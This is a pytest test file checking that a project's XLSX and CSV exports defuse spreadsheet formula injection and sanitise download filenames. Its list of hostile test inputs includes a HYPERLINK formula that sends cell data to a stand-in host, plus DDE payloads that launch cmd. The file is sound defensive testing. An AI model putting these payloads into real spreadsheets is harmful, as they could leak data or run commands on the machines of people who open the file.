"""Spreadsheets and CSV files never carry a live formula (OWASP CSV injection), whatever people typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from minsheng.core.exports import CSV_TYPE, Sheet, cell_safe, csv_text, download, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点我查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["关于=号的建议", "普通文字", "", None, 12, -3, 1.5, Decimal("-2.5"), dt.date(2026, 1, 5)]
)
def test_everything_else_is_left_as_it_is(value):
    assert cell_safe(value) == value


def test_every_xlsx_cell_is_neutralised_and_numbers_stay_numbers():
    data = xlsx_bytes(Sheet(title="测试", header=["标题", "数"], rows=[[text, -1] for text in HOSTILE]))
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0] == ("标题", "数")
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert all(row[1] == -1 for row in rows[1:])
    book = load_workbook(io.BytesIO(data))
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)


def test_every_csv_cell_is_neutralised():
    text = csv_text(["id", "body"], [[n, body] for n, body in enumerate(HOSTILE)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + body for body in HOSTILE]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(len(HOSTILE))]


def test_a_download_has_a_safe_name():
    response = download("a,b\n", content_type=CSV_TYPE, filename="民声.csv")
    assert (
        response["Content-Disposition"]
        == "attachment; filename=\"download.csv\"; filename*=UTF-8''%E6%B0%91%E5%A3%B0.csv"
    )
    response = download(b"x", content_type=CSV_TYPE, filename='a"b;c.csv')
    assert response["Content-Disposition"].startswith('attachment; filename="abc.csv"')
